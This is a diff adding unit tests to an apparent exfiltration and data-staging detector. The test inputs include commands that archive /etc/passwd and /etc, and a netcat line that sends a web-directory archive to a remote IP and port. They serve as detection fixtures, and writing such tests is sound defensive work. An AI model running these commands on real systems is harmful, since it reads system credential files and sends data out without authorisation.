@@ -5,11 +5,13 @@ from __future__ import annotations
 
 import base64
 
+import msgspec
 import pytest
 
 from tests.builders import connect, file_write, launch
 from tidewaiter.detection.addresses import AddressPolicy
 from tidewaiter.detection.signals import Detector, SignalKind
+from tidewaiter.events import Process
 
 detector = Detector()
 
@@ -284,3 +286,46 @@ def test_attacker_text_is_only_tokenised() -> None:
         'cmd.exe /c "',
     ]:
         detector.signals(launch(cmd))
+
+
+@pytest.mark.parametrize(
+    ("cmd", "path"),
+    [
+        # Atomic T1560.002 #4 as published: the "tarfile" test imports ZipFile
+        (
+            'python3 -c "from zipfile import ZipFile; '
+            "ZipFile('/tmp/passwd.tar.gz', mode='w').write('/etc/passwd')\"",
+            "/tmp/passwd.tar.gz",
+        ),
+        (
+            "python3 -c \"from tarfile import open; open('/tmp/x.tgz', mode='w:gz').add('/etc')\"",
+            "/tmp/x.tgz",
+        ),
+    ],
+)
+def test_python_imports_by_name(cmd: str, path: str) -> None:
+    [signal] = detector.signals(launch(cmd))
+    assert (signal.technique, signal.archive_path) == ("T1560.002", path)
+
+
+def test_unquoted_shell_payload_from_producers_that_join_argv() -> None:
+    # Falco's proc.cmdline: `sh -c nc 198.51.100.82 4444 < /var/www/v.gz`, quotes gone
+    [signal] = detector.signals(launch("sh -c nc 198.51.100.82 4444 < /var/www/v.gz"))
+    assert (signal.kind, signal.sent_paths) == (SignalKind.UPLOAD, ("/var/www/v.gz",))
+
+
+def test_archives_written_by_downloaders_are_not_staging() -> None:
+    write = file_write("/data/GeoLite2-City.tar.gz")
+    download = msgspec.structs.replace(
+        write, process=Process(pid=9, path="/usr/bin/curl", cmd_line="curl -fsSLO https://x/y.tgz")
+    )
+    assert detector.signals(download) == []
+    assert [s.kind for s in detector.signals(write)] == [SignalKind.ARCHIVE_FILE]
+
+
+def test_gh_release_upload_is_an_upload_to_github() -> None:
+    [signal] = detector.signals(launch("gh release upload v2.3.0 dist/cli.tar.gz --clobber"))
+    assert signal.destination is not None
+    assert (signal.kind, signal.destination.host) == (SignalKind.UPLOAD, "github.com")
+    assert "dist/cli.tar.gz" in signal.sent_paths
+    assert detector.signals(launch("gh release list")) == []
